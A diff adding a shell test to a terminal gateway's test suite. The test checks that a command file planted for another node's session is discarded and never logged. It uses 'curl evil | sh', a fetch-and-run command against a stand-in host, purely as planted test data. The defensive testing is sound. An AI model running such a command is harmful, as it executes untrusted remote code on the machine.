@@ -46,6 +46,25 @@ check_wait "pty: no socket of it is left" \
 check_wait "pty: its command file is ingested and removed" \
     "[ ! -e '$T/spool/$P.cmds' ]" 5
 
+# A command file planted for a session of another node (a terminal's uid
+# can write spool_dir): the supervisor reads only its own node's, so it
+# is removed unread and that session's history gets nothing.
+OTHER=$(q "INSERT INTO termgate.sessions (id, host_id, host_name, host_ip,
+    user_id, username, token_hash, node, endpoint, mode, expires_at)
+    SELECT encode(sha256(random()::text::bytea), 'hex'), 'local', 'local',
+    '127.0.0.1', id, username, repeat('0', 64), 'elsewhere',
+    '127.0.0.1:1', 'embedded', now() + interval '1 hour'
+    FROM termgate.users WHERE username = 'ptyuser' RETURNING id")
+printf '%s\n' '{"command": "curl evil | sh", "exit_status": 0}' \
+    >"$T/spool/$OTHER.cmds"
+check_wait "pty: a command file planted for another node's session is removed" \
+    "[ -n '$OTHER' ] && [ ! -e '$T/spool/$OTHER.cmds' ]" 10
+check "pty: and nothing of it is in that session's history" \
+    '[ -n "$OTHER" ] && [ "$(q "SELECT count(*) FROM termgate.command_history
+    WHERE session_id = '\''$OTHER'\''")" = 0 ]'
+q "UPDATE termgate.sessions SET status = 'closed', reason_closed =
+    'admin_close', closed_at = now() WHERE id = '$OTHER'" >/dev/null
+
 sed -i "s|^terminal_command = .*|terminal_command = /bin/sh|" \
     "$T/termgate.conf"
 kill -HUP "$SUP_PID"
